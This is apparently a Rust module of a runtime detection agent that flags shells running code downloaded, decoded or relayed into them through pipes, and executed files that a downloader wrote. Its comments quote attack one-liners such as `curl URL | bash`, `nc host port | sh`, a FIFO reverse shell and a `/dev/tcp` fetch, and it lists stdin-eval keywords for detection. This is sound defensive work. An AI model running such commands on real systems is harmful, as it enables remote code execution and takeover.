//! Download-and-execute and decode-and-execute from behaviour: a shell or interpreter that reads
//! the program it runs from a pipe whose writer downloaded or decoded it, whatever the command
//! lines look like, and an executable that a downloader wrote, run; and a shell reading its
//! program from a network relay (`nc host port | sh`, a FIFO written by `nc`), a reverse
//! shell. `curl URL | bash` as a line of a script, `wget -qO- URL | sh`, `base64 -d payload |
//! sh`, `echo <b64> | base64 -d | bash` and `bash <(curl -s URL)` put the
//! pipe in no single process's argv; the exec records do hold it: the kernel records the pipe
//! (its inode, the same on both ends) on standard input and output and on the inherited file
//! descriptors a `/dev/fd/N` operand names.
//!
//! The readers, writers and filters of each pipe meet in a bounded table, whichever exec comes
//! first: a writer that execs after its reader still raises. Programs are identified by their
//! executables (the `behaviour:` lists `downloaders`, `decoders`, `pipeFilters`, `shells`,
//! `interpreters`), never by `comm`.

use std::path::{Path, PathBuf};

use vigil_crds::finding::RuntimeContext;
use vigil_detection::FindingType;

use super::{
    Candidate, Detector, ProcessLookup,
    behaviour::{Behaviour, relay_program},
    bounded::FifoMap,
    path_basename,
    redact::redacted_command_line,
    technique::{
        ProgramInput, Raises, draft, listed, program_identity, program_input, program_name,
        program_run, runs_inline_program, technique,
    },
};
use crate::event::{ExecInfo, NetInfo, ProcessRef, normalize, resolve_exe};

/// Pipes remembered. Pipes live as long as the commands at their ends; the oldest go first.
pub(crate) const MAX_PIPES: usize = 4_096;
/// Downloader execs remembered (by pid) after they exit, for the files they wrote.
pub(crate) const MAX_DOWNLOADERS: usize = 1_024;
/// Shells and interpreters running an inline program remembered (by pid) until they connect
/// out or exec something else: the oldest go first.
pub(crate) const MAX_INLINE: usize = 1_024;
/// Shells remembered as holding the output of a downloader or decoder they captured (`$(curl
/// URL)`), until their next child's exec.
pub(crate) const MAX_CAPTURED: usize = 1_024;
/// Readers and downstream pipes kept per pipe.
const MAX_PER_PIPE: usize = 4;
/// Pipes followed from a reader back to where its program text came from (filters between).
const MAX_CHAIN: usize = 4;
/// Operands of a filter looked at for a FIFO it reads.
pub(crate) const MAX_FIFO_OPERANDS: usize = 4;

/// What a writer does to what goes through it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Role {
    /// Fetched from the network.
    Download,
    /// Relayed from a network connection as it arrives (`nc host port | sh`, the FIFO of
    /// `sh -i < f | nc host port > f`): commands from a remote peer.
    Relay,
    /// Decoded from what it read.
    Decode,
    /// Passed on what it read (copied, decompressed, edited).
    Filter,
}

/// The program writing into a pipe.
#[derive(Debug, Clone)]
struct Writer {
    role: Role,
    pid: u32,
    exe: PathBuf,
    command_line: String,
    /// The pipe it reads from, for decoders and filters.
    upstream: Option<u64>,
}

/// A shell or interpreter reading its program from a pipe.
#[derive(Debug, Clone)]
struct Reader {
    process: ProcessRef,
    exe: PathBuf,
    command_line: String,
    /// `standard input` or the operand (`/dev/fd/63`).
    via: String,
    reported: bool,
}

#[derive(Debug, Default)]
struct Pipe {
    writer: Option<Writer>,
    readers: Vec<Reader>,
    /// Pipes a filter or decoder reading this one writes into.
    downstream: Vec<u64>,
    /// Filters reading this pipe that write elsewhere (a file: `nc host port | sed 1d > f`),
    /// waiting to learn whether what they pass on was fetched.
    fed: Vec<Fed>,
}

/// A filter reading a pipe and writing elsewhere than a pipe.
#[derive(Debug, Clone)]
struct Fed {
    pid: u32,
    command_line: String,
}

/// A downloader or a decoder that ran: what a file it wrote was fetched or decoded by.
#[derive(Debug, Clone)]
struct Downloader {
    exe: PathBuf,
    command_line: String,
    /// `Download` or `Decode`.
    role: Role,
}

/// A shell or interpreter running a program written in its arguments (`python3 -c CODE`): a
/// downloader once it connects out (`python3 -c 'urllib...' | sh`, `perl -MLWP::Simple -e
/// 'getprint ...' | sh`, an inline program that fetches a file later run).
#[derive(Debug, Clone)]
struct Inline {
    exe: PathBuf,
    command_line: String,
    /// The pipe on its standard output.
    stdout_pipe: Option<u64>,
}

/// A downloader or decoder a shell's child or grandchild ran with its output into a pipe: what a
/// command substitution (`$(curl URL)`) looks like from the execs, the shell reading the pipe
/// itself.
#[derive(Debug, Clone, Copy)]
struct Captured {
    /// The pipe on the writer's standard output.
    pipe: u64,
}

/// The pipes seen at execs, by inode number, and the downloaders that ran, by pid.
#[derive(Debug)]
pub(crate) struct PipeTable {
    pipes: FifoMap<u64, Pipe>,
    downloaders: FifoMap<u32, Downloader>,
    inline: FifoMap<u32, Inline>,
    /// By the pid of the shell that may have captured the output (the writer's parent and
    /// grandparent: `$(curl URL)` forks once, `$(echo .. | base64 -d)` twice).
    captured: FifoMap<u32, Captured>,
    /// Pipes some exec'd program had on its standard input or an inherited descriptor, whatever
    /// the program (`curl URL | jq`, in either exec order): read by a program, not captured by
    /// a shell.
    read_by_exec: FifoMap<u64, ()>,
}

impl Default for PipeTable {
    fn default() -> Self {
        Self::new(MAX_PIPES)
    }
}

impl PipeTable {
    pub(crate) fn new(capacity: usize) -> Self {
        Self {
            pipes: FifoMap::new(capacity),
            downloaders: FifoMap::new(MAX_DOWNLOADERS),
            inline: FifoMap::new(MAX_INLINE),
            captured: FifoMap::new(MAX_CAPTURED),
            read_by_exec: FifoMap::new(capacity),
        }
    }

    /// Pipes held now.
    pub(crate) fn len(&self) -> usize {
        self.pipes.len()
    }

    /// Pipes dropped to stay within the bound.
    pub(crate) fn evicted(&self) -> u64 {
        self.pipes.evicted()
    }

    /// Downloaders remembered now, and how many were dropped to stay within the bound.
    pub(crate) fn downloaders(&self) -> (usize, u64) {
        (self.downloaders.len(), self.downloaders.evicted())
    }

    /// Inline programs remembered now, and how many were dropped to stay within the bound.
    pub(crate) fn inline(&self) -> (usize, u64) {
        (self.inline.len(), self.inline.evicted())
    }

    /// Shells remembered as holding a captured download or decode now, and how many were
    /// dropped to stay within the bound.
    pub(crate) fn captured(&self) -> (usize, u64) {
        (self.captured.len(), self.captured.evicted())
    }

    /// Whether pid runs an inline program that has not connected out yet.
    pub(crate) fn runs_inline(&self, pid: u32) -> bool {
        self.inline.get(&pid).is_some()
    }

    /// The downloader pid ran, if it still counts as one: its executable and command line.
    pub(crate) fn downloader(&self, pid: u32) -> Option<(&Path, &str)> {
        self.downloaders
            .get(&pid)
            .filter(|d| d.role == Role::Download)
            .map(|d| (d.exe.as_path(), d.command_line.as_str()))
    }

    fn entry(&mut self, ino: u64) -> &mut Pipe {
        self.pipes.get_or_default(ino)
    }

    /// Where the program text in `ino` comes from: the nearest downloader through decoders and
    /// filters, else the nearest decoder; with the writers on the way, nearest first.
    fn origin(&self, mut ino: u64) -> Option<(Role, Vec<&Writer>)> {
        let mut chain = Vec::new();
        let mut found = None;
        for _ in 0..MAX_CHAIN {
            let Some(w) = self.pipes.get(&ino).and_then(|p| p.writer.as_ref()) else {
                break;
            };
            chain.push(w);
            match w.role {
                Role::Download | Role::Relay => {
                    found = Some(w.role);
                    break;
                }
                Role::Decode => {
                    found.get_or_insert(Role::Decode);
                }
                Role::Filter => {}
            }
            match w.upstream {
                Some(up) if up != ino => ino = up,
                _ => break,
            }
        }
        found.map(|role| (role, chain))
    }

    /// The downloader or relay whose output `ino` carries (through filters, not decoders), as
    /// what a file a filter reading it writes was fetched by.
    fn fetched_through(&self, ino: u64) -> Option<Downloader> {
        let (role, chain) = self.origin(ino)?;
        if !matches!(role, Role::Download | Role::Relay)
            || chain.iter().any(|w| w.role == Role::Decode)
        {
            return None;
        }
        let origin = chain.last()?;
        Some(Downloader {
            exe: origin.exe.clone(),
            command_line: origin.command_line.clone(),
            role: Role::Download,
        })
    }

    /// A downloader or relay now writes `ino`: the filters waiting on it and on the pipes fed
    /// from it become the downloaders of the files they write.
    fn promote_fed(&mut self, ino: u64) {
        for pipe in self.downstream_of(ino) {
            let Some(dl) = self.fetched_through(pipe) else {
                continue;
            };
            let fed = self
                .pipes
                .get_mut(&pipe)
                .map(|p| std::mem::take(&mut p.fed))
                .unwrap_or_default();
            for f in fed {
                self.downloaders.insert(f.pid, fed_download(&dl, &f));
            }
        }
    }

    /// `ino` and the pipes fed from it through filters, nearest first.
    fn downstream_of(&self, ino: u64) -> Vec<u64> {
        let mut out = vec![ino];
        let mut i = 0;
        while i < out.len() && out.len() < MAX_CHAIN * MAX_PER_PIPE {
            if let Some(p) = self.pipes.get(&out[i]) {
                for d in &p.downstream {
                    if !out.contains(d) {
                        out.push(*d);
                    }
                }
            }
            i += 1;
        }
        out
    }
}

/// Operands of a filter that may name the FIFO it reads (`cat f`, `tail -f f`, `dd if=f`), for
/// the pipeline to `stat` ([`ExecInfo::input_fifo`]): only for a `pipeFilters` program (by its
/// executable) writing into a pipe with no pipe on its standard input, at most
/// [`MAX_FIFO_OPERANDS`] of them.
pub(crate) fn fifo_operands<'a>(b: &Behaviour, e: &'a ExecInfo) -> Vec<&'a str> {
    let name = program_run(e);
    if e.stdout_pipe.is_none() || e.stdin_pipe.is_some() || !listed(&b.pipe_filters, name) {
        return Vec::new();
    }
    e.argv
        .iter()
        .skip(1)
        .filter_map(|a| match a.strip_prefix("if=") {
            Some(file) => Some(file),
            None => (!a.starts_with('-') && !a.is_empty()).then_some(a.as_str()),
        })
        .take(MAX_FIFO_OPERANDS)
        .collect()
}

/// How an exec takes part in pipes: as a writer (downloader, decoder, filter) of its standard
/// output, and as a reader of its program.
pub(crate) fn check_exec(
    d: &Detector,
    table: &mut PipeTable,
    e: &ExecInfo,
    lookup: &dyn ProcessLookup,
) -> Vec<Candidate> {
    let b = d.rules.behaviour();
    let name = program_identity(d, e);
    let role = role(b, e, name);
    let mut found = Vec::new();
    // A file a downloader wrote, now run: the kernel recorded who wrote the executable, and the
    // pipeline who wrote a `#!` script.
    if let Some(w) = &e.written_by
        && let Some(dl) = table.downloaders.get(&w.pid)
    {
        // The path exec'd stands in for a process gone before the agent read its executable:
        // `./x` joined to the working directory, `.` left in.
        let exe = normalize(&e.exe).display().to_string();
        found.push(downloaded_file(d, lookup, e, dl, w.pid, exe, "binary"));
    }
    if let Some(w) = &e.script_written_by
        && let Some(dl) = table.downloaders.get(&w.pid)
    {
        let shebang = e.argv.iter().skip(1).take(2).any(|a| *a == e.filename);
        let operand = super::script_operand(&d.rules, &e.argv);
        let path = |p: &str| {
            normalize(&resolve_exe(p, e.cwd.as_deref()))
                .display()
                .to_string()
        };
        let (script, what) = if shebang {
            (path(&e.filename), "script")
        } else if operand.is_none() && super::reads_program_on_stdin(&d.rules, &e.argv) {
            // The path its fd held, or, once the process was gone, only that it was stdin.
            let file = e
                .stdin_script
                .as_deref()
                .map_or_else(|| "standard input".to_owned(), |p| p.display().to_string());
            (file, "script read on standard input")
        } else {
            (
                path(operand.unwrap_or(&e.filename)),
                "script passed to an interpreter",
            )
        };
        found.push(downloaded_file(d, lookup, e, dl, w.pid, script, what));
    }
    if let Some(role) = writes_downloads(e, role) {
        // A decoder too: `base64 -d data > x.sh; chmod +x x.sh; ./x.sh` is decode-and-execute
        // one step apart, as the download is (Atomic Red Team's T1027 #1).
        table.downloaders.insert(
            e.process.pid,
            Downloader {
                exe: e.exe.clone(),
                command_line: redacted_command_line(&e.argv),
                role,
            },
        );
    } else {
        // The pid runs something else now (or was reused): what it writes is not a download.
        table.downloaders.remove(&e.process.pid);
    }
    // A filter reading a pipe and writing a file passes on what the pipe holds: a download when
    // a downloader or relay fed the pipe (`nc host port | sed '1,/^\r$/d' > f`, `curl URL | tee
    // f`), whichever exec comes first.
    if role == Some(Role::Filter)
        && e.stdout_pipe.is_none()
        && let Some(up) = e.stdin_pipe
    {
        let fed = Fed {
            pid: e.process.pid,
            command_line: redacted_command_line(&e.argv),
        };
        match table.fetched_through(up) {
            Some(dl) => {
                let dl = fed_download(&dl, &fed);
                table.downloaders.insert(fed.pid, dl);
            }
            None => {
                let p = table.entry(up);
                if p.fed.len() < MAX_PER_PIPE {
                    p.fed.push(fed);
                }
            }
        }
    }
    if role.is_none() && runs_inline_program(b, name, &e.argv) {
        table.inline.insert(
            e.process.pid,
            Inline {
                exe: e.exe.clone(),
                command_line: redacted_command_line(&e.argv),
                stdout_pipe: e.stdout_pipe,
            },
        );
    } else {
        table.inline.remove(&e.process.pid);
    }
    for ino in e
        .stdin_pipe
        .iter()
        .chain(e.fd_pipes.iter().map(|p| &p.pipe))
    {
        table.read_by_exec.insert(*ino, ());
    }
    // The parent's next child, or the shell itself replaced (`exec bash -c "$(curl URL)"`, or
    // the last command of `sh -c`): what it captured before is judged now, and forgotten.
    for holder in [e.process.ppid, e.process.pid] {
        if let Some(c) = table.captured.remove(&holder) {
            found.extend(substituted(d, table, e, name, c, lookup));
        }
    }
    if let (Some(out), Some(Role::Download | Role::Decode)) = (e.stdout_pipe, role) {
        let capture = Captured { pipe: out };
        table.captured.insert(e.process.ppid, capture);
        // A parent that never exec'd is a subshell of the grandparent (the pipeline of `$(echo
        // .. | base64 -d)`): the grandparent captures. A parent that exec'd is a shell of its
        // own (a script), and its parent (a job runner, a login shell) captured nothing.
        // (A fork remembers the forking process without an executable; an exec with one.)
        let parent_execd = e.lineage.first().is_some_and(|parent| {
            d.procs
                .get(&parent.pid)
                .is_some_and(|r| r.uuid == parent.uuid && r.exe.is_some())
        });
        if !parent_execd && let Some(grandparent) = e.lineage.get(1) {
            table.captured.insert(grandparent.pid, capture);
        }
    }
    let mut touched = Vec::new();
    if let Some(out) = e.stdout_pipe
        && let Some(role) = role
    {
        let upstream = match role {
            Role::Download | Role::Relay => None,
            // A filter reading a named FIFO its operand names (`cat f | sh`): the FIFO.
            Role::Decode | Role::Filter => e.stdin_pipe.or(e.input_fifo).filter(|&i| i != out),
        };
        if let Some(up) = upstream {
            let p = table.entry(up);
            if !p.downstream.contains(&out) && p.downstream.len() < MAX_PER_PIPE {
                p.downstream.push(out);
            }
        }
        let pipe = table.entry(out);
        // A filter with no pipe upstream writing into a pipe that already has a writer shares
        // it (`bash -c 'exec 3<>/dev/tcp/...; cat <&3' | sh`: cat writes what bash fetched);
        // it does not make the pipe's text its own.
        let shares = role == Role::Filter && upstream.is_none() && pipe.writer.is_some();
        if !shares {
            pipe.writer = Some(Writer {
                role,
                pid: e.process.pid,
                exe: e.exe.clone(),
                command_line: redacted_command_line(&e.argv),
                upstream,
            });
        }
        touched.extend(table.downstream_of(out));
        // The filters waiting on this pipe, or on pipes it now feeds, learn where it comes from.
        table.promote_fed(out);
    }
    if let Some((ino, via)) = program_pipe(b, e, name) {
        let p = table.entry(ino);
        if p.readers.len() < MAX_PER_PIPE {
            p.readers.push(Reader {
                process: e.process.clone(),
                exe: e.exe.clone(),
                command_line: redacted_command_line(&e.argv),
                via,
                reported: false,
            });
        }
        touched.push(ino);
    }
    for ino in touched {
        found.extend(judge(d, table, ino, lookup));
    }
    found
}

/// A shell's child running an inline program right after the shell captured what a downloader
/// or decoder wrote into a pipe nothing exec'd reads: `bash -c "$(curl URL)"`, `sh -c "$(echo
/// .. | base64 -d)"` as lines of a script, where the download or decode is the program text.
/// High when that text has more than one line (a script); Low for one line, which a script
/// parsing what it fetched (`python3 -c '...' "$(curl api)"`) also looks like from here.
fn substituted(
    d: &Detector,
    table: &PipeTable,
    e: &ExecInfo,
    name: &str,
    c: Captured,
    lookup: &dyn ProcessLookup,
) -> Option<Candidate> {
    let b = d.rules.behaviour();
    // Nothing fetched (a refused connection): nothing run.
    let program =
        super::technique::inline_program(b, name, &e.argv).filter(|p| !p.trim().is_empty())?;
    // Read by an exec'd program (a pipeline, `| jq`; the inline program's own standard input,
    // `curl URL | python3 -c 'sys.stdin.read()'`): not captured by the shell.
    if table.read_by_exec.contains_key(&c.pipe) {
        return None;
    }
    let pipe = table.pipes.get(&c.pipe)?;
    if !pipe.readers.is_empty() || !pipe.downstream.is_empty() {
        return None;
    }
    let reader = Reader {
        process: e.process.clone(),
        exe: e.exe.clone(),
        command_line: redacted_command_line(&e.argv),
        via: "its command-line argument (command substitution)".to_owned(),
        reported: false,
    };
    let mut c = read_from(d, table, c.pipe, &reader, lookup)?;
    if !program.trim().contains('\n') {
        c.severity = 3.0;
    }
    Some(c)
}

/// A connect out of a shell or interpreter running an inline program: it downloads. The files
/// it writes are downloads from now on, and the pipe on its standard output carries one (its
/// readers that run their program from it are judged now: they exec'd before it connected).
/// Loopback counts (a local stager is still a download); unix sockets and refused connects do
/// not.
pub(crate) fn check_connect(
    d: &Detector,
    table: &mut PipeTable,
    n: &NetInfo,
    lookup: &dyn ProcessLookup,
) -> Vec<Candidate> {
    let pid = n.process.pid;
    let connected =
        n.ret == 0 || (n.error.as_deref() == Some("EINPROGRESS") && n.outcome.is_none());
    if n.remote.is_none() || !connected {
        return Vec::new();
    }
    let Some(inline) = table.inline.remove(&pid) else {
        return Vec::new();
    };
    table.downloaders.insert(
        pid,
        Downloader {
            exe: inline.exe.clone(),
            command_line: inline.command_line.clone(),
            role: Role::Download,
        },
    );
    let Some(out) = inline.stdout_pipe else {
        return Vec::new();
    };
    table.entry(out).writer = Some(Writer {
        role: Role::Download,
        pid,
        exe: inline.exe,
        command_line: inline.command_line,
        upstream: None,
    });
    let mut found = Vec::new();
    for ino in table.downstream_of(out) {
        found.extend(judge(d, table, ino, lookup));
    }
    found
}

/// As what the files an exec writes count: a downloader's and a decoder's as what they are; a
/// relay's (GTFOBins' downloads without curl: `nc host port > f`, `openssl s_client -connect
/// host:port > f`, `socat -u tcp:host:port open:f`) and a filter's reading a connected IP
/// socket on its standard input (`cat <&3 > f` once bash opened `/dev/tcp/host/port` on 3) as
/// downloads: what the peer sent.
fn writes_downloads(e: &ExecInfo, role: Option<Role>) -> Option<Role> {
    match role? {
        role @ (Role::Download | Role::Decode) => Some(role),
        Role::Relay => Some(Role::Download),
        Role::Filter => reads_ip_socket(e).then_some(Role::Download),
    }
}

/// Whether the exec's standard input is a connected IP socket.
fn reads_ip_socket(e: &ExecInfo) -> bool {
    e.stdio_sockets
        .iter()
        .any(|s| s.fd == 0 && s.remote.is_some())
}

/// The download a filter passes on into a file: fetched by `dl`'s program, the command lines
/// of both.
fn fed_download(dl: &Downloader, fed: &Fed) -> Downloader {
    Downloader {
        exe: dl.exe.clone(),
        command_line: format!("{} | {}", dl.command_line, fed.command_line),
        role: Role::Download,
    }
}

/// What a writer does, from its executable and arguments; `None` for anything else.
fn role(b: &Behaviour, e: &ExecInfo, name: &str) -> Option<Role> {
    if listed(&b.downloaders, name) {
        Some(Role::Download)
    } else if relays(b, e, name) {
        Some(Role::Relay)
    } else if b
        .decoders
        .iter()
        .any(|x| program_name(&x.program) == name && x.decodes(&e.argv))
    {
        Some(Role::Decode)
    } else if listed(&b.pipe_filters, name) {
        // A filter reading a connected IP socket on its standard input passes on what the peer
        // sent: the `/dev/tcp` download function of miner scripts (`exec 3<>/dev/tcp/h/p; ...;
        // cat <&3` in a forked subshell, no inline program to follow) piped into `sh`.
        if reads_ip_socket(e) {
            Some(Role::Download)
        } else {
            Some(Role::Filter)
        }
    } else {
        None
    }
}

/// Whether the exec runs a network relay: a `networkRelays` program, with its subcommand
/// among the arguments when the entry names one.
fn relays(b: &Behaviour, e: &ExecInfo, name: &str) -> bool {
    b.network_relays.iter().any(|entry| {
        let (program, subcommand) = relay_program(entry);
        program_name(program) == name
            && subcommand.is_none_or(|sub| e.argv.iter().skip(1).any(|a| a == sub))
    })
}

/// The pipe a shell or interpreter reads its program from, and how it names it.
fn program_pipe(b: &Behaviour, e: &ExecInfo, name: &str) -> Option<(u64, String)> {
    if !listed(&b.shells, name) && !listed(&b.interpreters, name) {
        return None;
    }
    match program_input(b, name, &e.argv) {
        ProgramInput::Stdin => e.stdin_pipe.map(|p| (p, "standard input".to_owned())),
        ProgramInput::Fd(fd) => e.fd_pipes.iter().find(|p| p.fd == fd).map(|p| {
            let operand = e
                .argv
                .iter()
                .skip(1)
                .find(|a| a.ends_with(&format!("/{fd}")))
                .cloned()
                .unwrap_or_else(|| format!("/dev/fd/{fd}"));
            (p.pipe, operand)
        }),
        // An inline program that evaluates what it reads (`python3 -c
        // "exec(sys.stdin.read())"`): its standard input is its program.
        ProgramInput::Command => {
            let text = super::technique::inline_program(b, name, &e.argv)?;
            if evaluates_stdin(name, text) {
                e.stdin_pipe.map(|p| {
                    (
                        p,
                        "standard input, evaluated by its inline program".to_owned(),
                    )
                })
            } else {
                None
            }
        }
        ProgramInput::Script(_) => None,
    }
}

/// Whether an inline program (`text`, run by the shell or interpreter `name`) evaluates what it
/// reads from its standard input as code: an `exec`/`eval` of the input, in each language's
/// usual words. What it only parses (`json.load(sys.stdin)`) is data.
fn evaluates_stdin(name: &str, text: &str) -> bool {
    let any = |words: &[&str]| words.iter().any(|w| text.contains(w));
    match name {
        "python" => {
            any(&["exec(", "eval(", "compile("])
                && any(&["stdin", "open(0", "/dev/stdin", "fdopen(0"])
        }
        "perl" => any(&["eval"]) && any(&["<STDIN>", "<>", "STDIN"]),
        "ruby" => any(&["eval"]) && any(&["STDIN", "$stdin", "ARGF"]),
        "node" | "nodejs" | "bun" | "deno" => {
            any(&["eval(", "Function(", "runInThisContext", "runInNewContext"])
                && any(&[
                    "readFileSync(0",
                    "/dev/stdin",
                    "process.stdin",
                    "Deno.stdin",
                ])
        }
        "php" => any(&["eval("]) && any(&["php://stdin", "STDIN"]),
        // `sh -c 'eval "$(cat)"'`, `bash -c 'source /dev/stdin'` (the kernel also sees the
        // latter's open of the pipe).
        _ => {
            (any(&["eval"]) && any(&["$(cat)", "$(cat -)", "`cat`"]))
                || any(&["source /dev/stdin", ". /dev/stdin"])
        }
    }
}

/// Findings for the readers of `ino` whose program came from a downloader or a decoder.
fn judge(
    d: &Detector,
    table: &mut PipeTable,
    ino: u64,
    lookup: &dyn ProcessLookup,
) -> Vec<Candidate> {
    if table.origin(ino).is_none() {
        return Vec::new();
    }
    let Some(pipe) = table.pipes.get(&ino) else {
        return Vec::new();
    };
    let pending: Vec<Reader> = pipe
        .readers
        .iter()
        .filter(|r| !r.reported)
        .cloned()
        .collect();
    let out: Vec<Candidate> = pending
        .iter()
        .filter_map(|r| read_from(d, table, ino, r, lookup))
        .collect();
    if let Some(pipe) = table.pipes.get_mut(&ino) {
        for r in &mut pipe.readers {
            r.reported = true;
        }
    }
    out
}

/// A running shell that read its program from pipe `ino` without an exec (`source <(curl
/// URL)`, `. /dev/fd/63`: the kernel's `openScript` of a pipe): a finding when a downloader,
/// a decoder or a relay wrote what reaches it, as for a shell exec'd on the pipe.
pub(crate) fn sourced_from(
    d: &Detector,
    table: &PipeTable,
    ino: u64,
    process: &ProcessRef,
    shell_exe: &Path,
    via: &str,
    lookup: &dyn ProcessLookup,
) -> Option<Candidate> {
    let reader = Reader {
        process: process.clone(),
        exe: shell_exe.to_path_buf(),
        command_line: format!("source {via}"),
        via: via.to_owned(),
        reported: false,
    };
    read_from(d, table, ino, &reader, lookup)
}

/// The finding for one reader of pipe `ino` that no exec registered (a shell sourcing it, a
/// command string captured from it), when a downloader, decoder or relay wrote what it holds.
fn read_from(
    d: &Detector,
    table: &PipeTable,
    ino: u64,
    reader: &Reader,
    lookup: &dyn ProcessLookup,
) -> Option<Candidate> {
    let (role, chain) = table.origin(ino)?;
    let origin = chain.last()?;
    let through: Vec<String> = chain
        .iter()
        .rev()
        .map(|w| path_basename(&w.exe).to_owned())
        .collect();
    Some(finding(
        d,
        lookup,
        role,
        reader,
        &origin.exe.display().to_string(),
        origin.pid,
        &origin.command_line,
        &through,
    ))
}

/// An executable or a `#!` script that a downloader (or a decoder) wrote, run.
fn downloaded_file(
    d: &Detector,
    lookup: &dyn ProcessLookup,
    e: &ExecInfo,
    dl: &Downloader,
    downloader_pid: u32,
    exe: String,
    what: &str,
) -> Candidate {
    let writer = dl.exe.display().to_string();
    let mut context = super::technique::exec_context(e, exe.clone());
    let decoded = dl.role == Role::Decode;
    let (by, pid_key, line_key) = if decoded {
        ("decodedBy", "decoderPid", "decoderCommandLine")
    } else {
        ("downloadedBy", "downloaderPid", "downloaderCommandLine")
    };
    let a = &mut context.additional;
    a.insert(by.into(), writer.clone());
    a.insert(pid_key.into(), downloader_pid.to_string());
    a.insert(line_key.into(), dl.command_line.clone());
    a.insert("executedFile".into(), what.into());
    let (rule, mitre, title) = if decoded {
        (
            "behaviour-decode-exec",
            "T1140,T1027,T1204.002",
            "A program that a decoder wrote was executed",
        )
    } else {
        (
            "behaviour-download-exec",
            "T1105,T1204.002",
            "A program that a downloader wrote was executed",
        )
    };
    technique(
        d,
        &e.process,
        lookup,
        Raises {
            finding_type: FindingType::ExecutionSuspiciousCommand,
            rule,
            mitre,
            // The same technique as a download or a decode piped into a shell, one step apart.
            severity: Some(8.0),
        },
        draft(
            title,
            format!(
                "Process {} (pid {}) executed {exe} ({what}), which {writer} wrote: {}.",
                e.process.comm, e.process.pid, dl.command_line
            ),
            exe,
            context,
        ),
    )
}

#[expect(
    clippy::too_many_arguments,
    reason = "one finding's facts, each from a different end of the pipe"
)]
fn finding(
    d: &Detector,
    lookup: &dyn ProcessLookup,
    role: Role,
    r: &Reader,
    writer_exe: &str,
    writer_pid: u32,
    writer_line: &str,
    through: &[String],
) -> Candidate {
    let reader_exe = r.exe.display().to_string();
    let chain = format!(
        "{} | {}",
        through.join(" | "),
        path_basename(Path::new(&reader_exe))
    );
    let mut context = RuntimeContext {
        command_line_example: Some(r.command_line.clone()),
        ..RuntimeContext::default()
    };
    let a = &mut context.additional;
    a.insert("pipeWriter".into(), writer_exe.to_owned());
    a.insert("pipeWriterPid".into(), writer_pid.to_string());
    a.insert("pipeWriterCommandLine".into(), writer_line.to_owned());
    a.insert("pipeChain".into(), chain.clone());
    a.insert("programReadFrom".into(), r.via.clone());
    let (finding_type, rule, mitre, title, what) = match role {
        Role::Download => (
            FindingType::ExecutionSuspiciousCommand,
            "behaviour-download-pipe-exec",
            "T1059.004,T1105",
            "A shell ran code downloaded into it through a pipe",
            "downloaded",
        ),
        // GuardDuty's reverse shell is a shell driven by a remote peer; here the connection
        // reaches it through a relay's pipe rather than on its own descriptors.
        Role::Relay => (
            FindingType::ExecutionReverseShell,
            "behaviour-reverse-shell-pipe",
            "T1059.004,T1095",
            "A shell ran commands relayed into it from a network connection",
            "relayed from a network connection",
        ),
        Role::Decode | Role::Filter => (
            FindingType::ExecutionSuspiciousCommand,
            "behaviour-decode-pipe-exec",
            "T1059.004,T1140",
            "A shell ran code decoded into it through a pipe",
            "decoded",
        ),
    };
    technique(
        d,
        &r.process,
        lookup,
        Raises {
            finding_type,
            rule,
            mitre,
            // As the command rules for the same technique (exec-download-pipe-shell,
            // exec-base64-pipe-shell) and the reverse-shell rule: High.
            severity: Some(8.0),
        },
        draft(
            title,
            format!(
                "Process {} (pid {}, {reader_exe}) read the program it runs from {}, which \
                 {writer_exe} (pid {writer_pid}) {what}: {chain}.",
                r.process.comm, r.process.pid, r.via
            ),
            format!("{rule}\0{writer_line}"),
            context,
        ),
    )
}
